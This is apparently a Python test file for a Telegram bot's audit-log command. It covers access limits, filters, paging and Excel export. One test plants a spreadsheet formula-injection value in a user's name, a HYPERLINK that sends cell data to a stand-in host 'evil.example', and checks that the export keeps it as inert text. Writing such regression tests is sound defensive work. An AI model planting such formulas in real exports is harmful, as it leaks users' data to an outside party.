"""/audit: the methodologist reads who did what and when, filters by kind and by person, and
exports the log to Excel; nobody else reads it. Driven through the real Dispatcher."""

from __future__ import annotations

import io

from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import select, update

from bot.keyboards.audit import AuditCb
from bot.storage.models import AuditEntry, Member, Role
from tests import seed
from tests.harness import Harness, Person, Seen
from tests.worlds import make_invite, school

ADMIN_NAME = "Смирнова Ольга Викторовна"
EVIL = '=HYPERLINK("http://evil.example/?"&A3,"Смирнова Ольга")'


async def _change_role(admin: Person, name: str) -> None:
    """Through /members: the card of ``name``, «Сменить роль» → head → yes."""
    await admin.send("/members")
    await admin.press(next(b for b in admin.last().buttons if b.startswith(name)))
    await admin.press("Сменить роль")
    await admin.press("руководитель объединения")
    await admin.press("Да")


async def _setup(h: Harness) -> tuple[Person, int]:
    ids = await school(h)
    admin = await seed.methodologist(h)
    teacher_id = await seed.member(
        h, 7001, Role.TEACHER, "Петрова Анна", organisation_id=ids["org"]
    )
    return admin, teacher_id


def _entries(message: Seen) -> list[str]:
    """The entry blocks of a page (after the heading block)."""
    return message.text.split("\n\n")[1:]


async def test_a_role_change_is_in_the_log_with_who_and_when(harness: Harness) -> None:
    h = harness
    admin, _ = await _setup(h)
    await _change_role(admin, "Петрова Анна")
    [reply] = await admin.send("/audit")
    assert reply.text.startswith("Журнал действий\nФильтр не задан: все записи, сначала новые.")
    first = _entries(reply)[0]
    # 09:00 UTC is 12:00 in Moscow, the deployment's time zone.
    assert first == (
        f"23.11.2026 12:00 · {ADMIN_NAME}\n"
        "Смена роли: Петрова Анна, педагог → руководитель объединения"
    )
    assert f"23.11.2026 12:00 · {ADMIN_NAME}\nВход методиста из списка администраторов" in (
        reply.text
    )
    assert reply.buttons == ["Раздел: все", "Человек: все", "Выгрузить в Excel"]


async def test_filters_by_kind_and_by_person_and_pages(harness: Harness) -> None:
    h = harness
    admin, teacher_id = await _setup(h)
    await make_invite(admin, "педагог", "МАОУ «СОШ № 1»")
    await _change_role(admin, "Петрова Анна")

    await admin.send("/audit")
    await admin.press("Раздел: все")
    assert admin.last().text == "Записи какого раздела показать?"
    await admin.press("Приглашения")
    shown = admin.last()
    assert "Фильтр: раздел — Приглашения" in shown.text
    assert "Записей: 1" in shown.text
    assert [e.split("\n")[1] for e in _entries(shown)] == ["Создано приглашение: педагог"]
    assert "Раздел: Приглашения" in shown.buttons

    await admin.press("Раздел: Приглашения")
    await admin.press("Все разделы")
    await admin.press("Человек: все")
    await admin.press("Петрова Анна")
    shown = admin.last()
    assert "Фильтр: человек — Петрова Анна" in shown.text
    assert [e.split("\n")[1] for e in _entries(shown)] == [
        "Смена роли: Петрова Анна, педагог → руководитель объединения"
    ]
    await admin.press("Сбросить фильтр")
    assert "Записей: 4" in admin.last().text

    # Many entries: a page at a time, newest first.
    async with h.runtime.sessions() as session, session.begin():
        for n in range(20):
            session.add(
                AuditEntry(
                    at=h.clock.now(),
                    actor_id=None,
                    action="member.deactivated",
                    object_type="member",
                    object_id=teacher_id,
                    details={"n": n},
                )
            )
    [reply] = await admin.send("/audit")
    assert "Записей: 24" in reply.text
    assert len(_entries(reply)) == 8
    assert "бот (автоматически)\nЗакрыт доступ: Петрова Анна" in reply.text
    assert "1 из 3" in reply.buttons
    await admin.press("Далее ›")
    assert "2 из 3" in admin.last().buttons


async def test_export_is_a_safe_table(harness: Harness) -> None:
    h = harness
    admin, _ = await _setup(h)
    await _change_role(admin, "Петрова Анна")
    async with h.runtime.sessions() as session, session.begin():
        await session.execute(
            update(Member).where(Member.telegram_id == admin.id).values(full_name=EVIL)
        )
    await admin.send("/audit")
    await admin.press("Выгрузить в Excel")
    sent = admin.last().raw
    assert sent["caption"] == "Журнал действий: 3 записи."
    assert sent["document"]["file_name"] == "audit-2026-11-23.xlsx"
    book = load_workbook(io.BytesIO(h.double.file_bytes(sent["document"]["file_id"])))
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == ["Когда", "Кто", "Раздел", "Что сделано"]
    assert sheet.freeze_panes == "A2"
    newest = rows[1]
    assert newest[1].value == EVIL
    assert newest[1].data_type == "s"
    assert newest[2].value == "Участники"
    assert newest[3].value == ("Смена роли: Петрова Анна, педагог → руководитель объединения")
    assert newest[0].value.strftime("%d.%m.%Y %H:%M") == "23.11.2026 12:00"
    assert not any(c.data_type == "f" for row in rows for c in row)
    async with h.runtime.sessions() as session:
        exported = list(
            await session.scalars(select(AuditEntry).where(AuditEntry.action == "audit.exported"))
        )
    assert [e.details["count"] for e in exported] == [3]


async def test_only_a_methodologist_reads_the_log(harness: Harness) -> None:
    h = harness
    await _setup(h)
    teacher = h.person("Анна", "Петрова", user_id=7001)
    [reply] = await teacher.send("/audit")
    assert reply.text == "Это может сделать только методист."
    await seed.member(h, 7002, Role.COORDINATOR, "Зайцева Мария")
    coordinator = h.person("Мария", "Зайцева", user_id=7002)
    [reply] = await coordinator.send("/audit")
    assert reply.text == "Это может сделать только методист."
    # A button of the log, forged by the coordinator: refused too.
    update_ = h.double.callback_update(
        coordinator.id, coordinator.last().raw, AuditCb(a="x").pack()
    )
    await h.feed(update_)
    assert h.double.callback_answers()[-1]["text"] == "Это может сделать только методист."
    assert not h.double.calls("sendDocument")
